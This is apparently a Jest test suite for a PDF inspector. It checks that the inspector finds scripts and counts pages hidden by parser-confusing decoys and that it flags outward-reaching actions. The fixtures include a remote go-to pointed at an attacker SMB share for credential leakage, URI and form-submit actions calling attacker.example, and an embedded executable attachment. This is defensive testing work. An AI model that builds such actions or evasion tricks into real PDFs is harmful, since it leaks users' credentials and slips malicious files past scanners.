import { randomBytes } from 'node:crypto';
import { inspect } from './testing/inspect';
import { catalog, objectStream, objectStreamBrokenHalfway, page, pageTree, pdf, scriptInObjectStream, stream } from './testing/pdf-files';

const pages = (count: number) => Array.from({ length: count }, () => page());
const scripted = { activeContent: expect.arrayContaining(['JavaScript']) };

describe('a PDF that tries to steer the inspector away from its active content', () => {
  describe('hiding an object stream that opens with a script', () => {
    it.each([
      ['a comment line "% stream"', '<< /Title (a deed) >>\n% stream'],
      ['a string "(stream)"', '<< /Title (stream) >>'],
      ['a string with an escaped parenthesis and "stream" in it', '<< /Title (a \\) stream) >>'],
      ['a hex string that looks like a dictionary', '<< /Title <73747265616d> >>'],
    ])('still finds it behind %s', async (_case, decoy) => {
      const file = pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), decoy, scriptInObjectStream()]);

      await expect(inspect(file)).resolves.toMatchObject(scripted);
    });

    it('still finds it behind an earlier stream whose /Length runs over it, as a repairing reader does', async () => {
      const file = pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), stream('', Buffer.from('q 1 0 0 1 0 0 cm Q'), 600), scriptInObjectStream()]);

      await expect(inspect(file)).resolves.toMatchObject(scripted);
    });

    it('still finds it behind a string left open, which a reader passes by through the cross-reference table', async () => {
      const file = pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), '<< /Title (a deed >>', scriptInObjectStream()]);

      await expect(inspect(file)).resolves.toMatchObject(scripted);
    });

    it('still finds it behind an earlier stream whose /Length falls short', async () => {
      const file = pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), stream('', randomBytes(3000), 10), scriptInObjectStream()]);

      await expect(inspect(file)).resolves.toMatchObject(scripted);
    });

    it.each([
      ['no /Type at all', ''],
      ['its /Type given by reference', '/Type 9 0 R'],
    ])('looks inside a compressed object stream with %s', async (_case, type) => {
      const file = pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), scriptInObjectStream({ type })]);

      await expect(inspect(file)).resolves.toMatchObject(scripted);
    });
  });

  describe('hiding pages from the page limit', () => {
    it.each([
      ['a comment line "% stream"', '<< /Title (a deed) >>\n% stream'],
      ['a string "(stream)"', '<< /Title (stream) >>'],
    ])('counts the pages behind %s', async (_case, decoy) => {
      const file = pdf([catalog(), pageTree(5), decoy, ...pages(5)]);

      await expect(inspect(file)).resolves.toMatchObject({ pages: 5 });
    });

    it('counts the pages of a page tree whose array is damaged', async () => {
      const file = pdf([catalog(), '<< /Type /Pages /Kids 3 0 R 4 0 R] /Count 2 >>', '<< /Parent 2 0 R >>', '<< /Parent 2 0 R >>']);

      await expect(inspect(file)).resolves.toMatchObject({ pages: 2 });
    });

    it('counts pages whose /Type is given by reference', async () => {
      const file = pdf([catalog(), pageTree(4), ...Array.from({ length: 4 }, () => '<< /Type 9 0 R /Parent 2 0 R >>')]);

      await expect(inspect(file)).resolves.toMatchObject({ pages: 4 });
    });

    it('counts pages kept behind an earlier stream whose /Length runs over them', async () => {
      const file = pdf([catalog(), pageTree(3), stream('', Buffer.from('q Q'), 400), ...pages(3)]);

      await expect(inspect(file)).resolves.toMatchObject({ pages: 3 });
    });
  });

  describe('actions that reach outside the document', () => {
    it.each([
      ['a remote go-to, which can leak credentials to an SMB share', '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>', 'GoToR'],
      ['an embedded go-to', '/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>', 'GoToE'],
      ['a web address opened with the file', '/OpenAction << /S /URI /URI (https://attacker.example/track) >>', 'URI'],
      ['a web address opened by an additional action', '/AA << /O << /S /URI /URI (https://attacker.example/) >> >>', 'AA'],
      ['a data import', '/Names << /Dests 9 0 R >> /OpenAction << /S /ImportData /F (data.fdf) >>', 'ImportData'],
      ['a form that submits itself', '/OpenAction << /S /SubmitForm /F (https://attacker.example) >>', 'SubmitForm'],
    ])('flags %s', async (_case, entries, found) => {
      const file = pdf([catalog(entries), pageTree(1), page()]);

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: expect.arrayContaining([found]) });
    });

    it('flags a web address opened with the file when the open action is kept in another object', async () => {
      const file = pdf([catalog('/OpenAction 4 0 R'), pageTree(1), page(), '<< /S /URI /URI (https://attacker.example/track) >>']);

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: expect.arrayContaining(['URI']) });
    });

    it('flags a file attachment annotation that embeds its file', async () => {
      const attachment = '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (invoice.exe) /EF << /F 9 0 R >> >> >>';
      const file = pdf([catalog(), pageTree(1), page('/Annots [4 0 R]'), attachment]);

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: ['EmbeddedFile'] });
    });

    it('flags rich media kept in an object stream without a /Type', async () => {
      const file = pdf([catalog(), pageTree(1), page('/Annots [100 0 R]'), objectStream(['<< /Type /Annot /Subtype /RichMedia >>'], { filter: '/FlateDecode', type: '' })]);

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: expect.arrayContaining(['RichMedia']) });
    });
  });

  describe('ordinary files it used to refuse', () => {
    it('accepts a link whose address merely contains the word JavaScript', async () => {
      const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://developer.example/docs/Web/JavaScript/Guide) >> >>';
      const file = pdf([catalog(), pageTree(1), page('/Annots [4 0 R]'), link]);

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: [], encryption: 'none' });
    });

    it('accepts an empty /AA dictionary', async () => {
      const file = pdf([catalog('/AA << >>'), pageTree(1), page('/AA <<>>')]);

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: [], encryption: 'none' });
    });

    it('accepts an open action that goes to the first page', async () => {
      const file = pdf([catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'), pageTree(1), page(), '<< /S /URI /URI (https://bank.example) >>']);

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: [], encryption: 'none' });
    });
  });

  describe('an object stream that fails to inflate part-way', () => {
    it('answers, and flags what it could not read', async () => {
      const file = objectStreamBrokenHalfway();

      await expect(inspect(file, 16 * 1024)).resolves.toMatchObject({ activeContent: ['UnreadableObjectStream'] });
    }, 5_000);
  });
});
